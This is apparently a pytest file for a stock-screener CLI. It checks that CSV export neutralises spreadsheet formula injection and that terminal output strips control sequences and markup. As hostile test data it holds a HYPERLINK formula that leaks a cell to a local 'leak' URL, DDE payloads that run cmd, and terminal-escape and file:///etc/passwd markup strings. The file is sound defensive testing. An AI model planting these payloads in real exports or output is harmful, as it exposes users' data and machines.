"""Untrusted text going out (issue 18): CSV cells that a spreadsheet would run as a formula get a
leading ``'`` (``--raw`` keeps them as written), and terminal output carries no control
characters and no rich markup from a watchlist, a file or a vendor."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from screener.cli.safetext import formula_safe, one_line, plain

from .support import LEDGER, changed_files, invoke, snapshot, traceback_in

#: name_en -> what a spreadsheet would do with it
FORMULAS = {
    '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"see")': "sends a cell to a server",
    "+2+5*cmd|' /C notepad'!A0": "runs a program (DDE)",
    "-1+1": "computes",
    "@SUM(1+1)*cmd|' /C calc'!A0": "runs a program (DDE)",
    "\tTAB=1+1": "a leading tab some spreadsheets skip",
}
#: a thesis made to take over the terminal: OSC title, BEL, clear screen, C1 CSI, a
#: right-to-left override, rich markup and a markup closing tag with nothing open
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eRIGHT [bold red]LOUD[/bold red] [/] [link=file:///etc/passwd]x[/link]"
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _quoted(text: str) -> str:
    """``text`` as a YAML double-quoted scalar (control characters as escapes)."""
    out = []
    for ch in text:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or 0x202A <= ord(ch) <= 0x2069:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def hostile_list(ws: Path) -> None:
    """``core`` with a formula in each member's English name and :data:`TERMINAL` as a thesis;
    the list itself is titled with a formula too."""
    names = list(FORMULAS)
    lines = [
        "name: core",
        f"title: {{zh: 核心, en: {_quoted('=1+1')}}}",
        "side: compute",
        "description: hostile text",
        "members:",
    ]
    for i, (ticker, name) in enumerate(
        zip(["NVDA", "AMD", "MU", "TSM", "AVGO"], names, strict=True)
    ):
        lines += [
            f"  - ticker: {ticker}",
            "    name_zh: 名",
            f"    name_en: {_quoted(name)}",
            "    segments: {accelerators: 0.5}",
            "    mix_source: estimate",
            f"    thesis: {_quoted(TERMINAL if i == 0 else 'plain')}",
            "    added: 2026-01-05",
        ]
    (ws / "watchlists" / "core.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")


FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


CSV_COMMANDS = {
    "watchlist-show": ["watchlist", "show", "core", "--format", "csv"],
    "watchlist-list": ["watchlist", "list", "--format", "csv"],
    "screen": [
        "--demo",
        "--as-of",
        "2026-11-20",
        "screen",
        "--watchlist",
        "core",
        "--format",
        "csv",
    ],
}


@pytest.mark.parametrize("command", CSV_COMMANDS, ids=list(CSV_COMMANDS))
def test_no_csv_cell_starts_a_formula_unless_raw(ws, demo_home, command):
    hostile_list(ws)
    before = snapshot(ws)
    args = ["--workspace", str(ws), *CSV_COMMANDS[command]]
    safe, raw = invoke(args), invoke([*args, "--raw"])
    LEDGER["bad inputs"] += 2
    for result in (safe, raw):
        assert traceback_in(result) is None
        assert result.exit_code == 0, result.output + result.stderr
    safe_rows, raw_rows = _rows(safe.stdout), _rows(raw.stdout)
    assert safe_rows and len(safe_rows) == len(raw_rows)
    changed = 0
    for safe_row, raw_row in zip(safe_rows, raw_rows, strict=True):
        for col, cell in safe_row.items():
            if cell.startswith(FORMULA_CHARS):  # only a number may start so (a negative return)
                assert _number(cell), (col, cell)
            if cell != raw_row[col]:  # the only change: a quote before a would-be formula
                assert cell == "'" + raw_row[col] and raw_row[col].startswith(FORMULA_CHARS)
                changed += 1
    # what the list holds is there, behind a quote; --raw writes it as it is
    held = {"=1+1"} if command == "watchlist-list" else set(FORMULAS)
    raw_cells = {c for row in raw_rows for c in row.values()}
    safe_cells = {c for row in safe_rows for c in row.values()}
    assert held <= raw_cells and {"'" + h for h in held} <= safe_cells
    assert changed >= len(held)
    assert changed_files(before, snapshot(ws)) == []


TABLE_COMMANDS = {
    "watchlist-show": ["watchlist", "show", "core"],
    "watchlist-list": ["watchlist", "list"],
    "screen": ["--demo", "--as-of", "2026-11-20", "screen", "--watchlist", "core"],
}


@pytest.mark.parametrize("command", TABLE_COMMANDS, ids=list(TABLE_COMMANDS))
def test_a_thesis_cannot_drive_the_terminal(ws, demo_home, command):
    hostile_list(ws)
    result = invoke(["--workspace", str(ws), *TABLE_COMMANDS[command]])
    LEDGER["bad inputs"] += 1
    assert traceback_in(result) is None
    assert result.exit_code == 0, result.output + result.stderr
    out = result.stdout + result.stderr
    assert not _CONTROL.search(out), repr(_CONTROL.findall(out))
    if command == "watchlist-show":  # the thesis column: markup printed as written
        assert "[bold red]LOUD[/bold red] [/]" in out
        assert "[link=file:///etc/passwd]x[/link]" in out


def test_an_error_line_quoting_hostile_text_stays_one_clean_line(ws, home):
    before = snapshot(ws, home)
    result = invoke(["--workspace", str(ws), "watchlist", "show", "no\x1b[2Jsuch\nlist\x07"])
    LEDGER["bad inputs"] += 1
    assert traceback_in(result) is None
    assert result.exit_code != 0
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert not _CONTROL.search(result.stderr)
    assert "such" in lines[0]
    assert changed_files(before, snapshot(ws, home)) == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_formula_prefix_follows_owasp(value, expected):
    assert formula_safe(value) == expected


def test_plain_keeps_text_and_drops_controls():
    assert plain("核心 a\tb\nc") == "核心 a\tb\nc"
    assert plain("\x1b[31mred\x07\x9b\u202e") == "[31mred"
    assert one_line("a\r\nb\tc\n") == "a b c "
